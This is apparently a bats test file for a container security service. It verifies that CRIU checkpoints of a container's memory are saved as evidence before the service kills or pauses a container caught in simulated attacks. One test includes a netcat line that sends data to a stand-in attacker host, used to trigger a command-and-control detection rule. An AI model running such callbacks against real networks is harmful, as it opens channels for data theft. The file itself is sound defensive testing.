#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# A checkpoint by CRIU in the evidence, on a host with cgroup v2 only: where
# criu knows the kernel it is there, and elsewhere the manifest says why not.
# CRIU_WORKS, when set, is what it has to be: 1 or 0.

load story
load captured

# A container's outputs are pipes, as with every engine: of a file that is not
# its own, which they would be otherwise, criu cannot tell where it is.
setup_file() {
  scratch_cgroup2_only
  story_open
  # Also finds out what the kernel has, which it keeps in /run.
  local works=0
  ! criu check >"$SCRATCH/criu.said" 2>&1 || works=1
  export CRIU_WORKS=${CRIU_WORKS:-$works}
  [[ $CRIU_WORKS == "$works" ]] || {
    cat "$SCRATCH/criu.said"
    return 1
  }
}
teardown_file() { story_close; }
teardown() {
  ! mountpoint -q "$(command -v criu)" || umount "$(command -v criu)"
  story_quiet
}

# checkpointing [LIMIT]
checkpointing() { echo "evidence: {limit: ${1:-60s}, checkpoint: true}"; }

# For a container's script: a text that is nowhere but in its memory.
# shellcheck disable=SC2016 # the container's shell expands
REMEMBER='a=only-in; b=memory-4711; c=$a-$b'

# magic FILE: the two numbers it begins with.
magic() { od -A n -t x4 -N 8 "$1" | tr -d ' '; }

# What is unpacked holds the memory of the container, or says why it does not.
has_checkpoint() {
  if ((CRIU_WORKS)); then
    steps_are frozen collected checkpoint responded
    jq -e 'all(.missing[]; .member != "checkpoint" and .member != "frozen")' \
      "$UNPACKED/manifest.json"
    # As criu numbers them: an inventory; any other image, of a core.
    [[ $(magic "$UNPACKED/checkpoint/inventory.img") == 58313116* ]]
    [[ $(magic "$UNPACKED/checkpoint/core-1.img") == 5456431955053847 ]]
    grep -q only-in-memory-4711 "$UNPACKED"/checkpoint/pages-*.img
  else
    steps_are frozen collected responded
    jq -er '.missing[] | select(.member == "checkpoint") | .reason' \
      "$UNPACKED/manifest.json" | grep criu
    [[ ! -e $UNPACKED/checkpoint ]]
  fi
  jq -e 'length > 0' "$UNPACKED/processes.json"
  [[ -z $(find "$SVC/state/evidence" -name '*-images') ]]
}

@test "memory is kept before the container is killed" {
  service "$KILL_POLICY" "$(checkpointing)"
  # The shell does not become its last command, and keeps its memory.
  run contained exploited sh -c "$REMEMBER; $(attack); echo \$c"
  ((status == 137))
  evidence_of exploited
  event "$C2_RULE" ".bailiff.outcome == \"killed\"
    and .bailiff.evidence == \"$EVIDENCE\""
  unpack
  has_checkpoint
  nothing_left_of exploited
}

@test "a container that is paused stays so behind its checkpoint, and goes on" {
  sed 's/response: pause/&\n    capture: true/' "$PAUSE_POLICY" \
    >"$SCRATCH/rules/capture-pause.yaml"
  service "$SCRATCH/rules/capture-pause.yaml" "$(checkpointing)"
  mkdir "$SCRATCH/shared"
  # shellcheck disable=SC2016 # the container's shell expands
  BUNDLE_MORE=".mounts += [{destination: \"/shared\", type: \"bind\",
      source: \"$SCRATCH/shared\", options: [\"bind\"]}]" \
    contained held sh -c "$REMEMBER; echo hello | nc -w 3 $ATTACKER4 1389"'
      while :; do [ ! -e /shared/ask ] || mv /shared/ask /shared/answer; done' \
    </dev/null 2>&1 3>&- | cat >"$SCRATCH/held.out" 3>&- &
  evidence_of held
  event "$C2_RULE" ".bailiff.outcome == \"paused\"
    and .bailiff.evidence == \"$EVIDENCE\""
  is_frozen held
  touch "$SCRATCH/shared/ask"
  unpack
  has_checkpoint
  [[ -e $SCRATCH/shared/ask ]]
  bailiff_api resume held --reason seen
  wait_until 20 "the container's answer" test -e "$SCRATCH/shared/answer"
}

criu_is_gone() {
  local pid
  pid=$(cat "$SCRATCH/criu.pid") || return 0
  [[ ! -e /proc/$pid ]] || grep -q '^State:.*zombie' "/proc/$pid/status"
}

@test "a checkpoint that does not end is cut off by the kill" {
  printf '#!/bin/sh\necho $$ >%s\nexec sleep 1000\n' "$SCRATCH/criu.pid" \
    >"$SCRATCH/criu"
  chmod 0755 "$SCRATCH/criu"
  mount --bind "$SCRATCH/criu" "$(command -v criu)"
  service "$KILL_POLICY" "$(checkpointing 3s)"
  run contained exploited sh -c "$REMEMBER; $(attack)"
  ((status == 137))
  evidence_of exploited
  unpack
  steps_are frozen collected responded
  jq -e 'any(.missing[]; .member == "checkpoint"
    and (.reason | contains("the limit of 3000 ms had passed")))' \
    "$UNPACKED/manifest.json"
  jq -e 'length > 0' "$UNPACKED/processes.json"
  wait_until 10 "criu to be gone" criu_is_gone
  nothing_left_of exploited
}
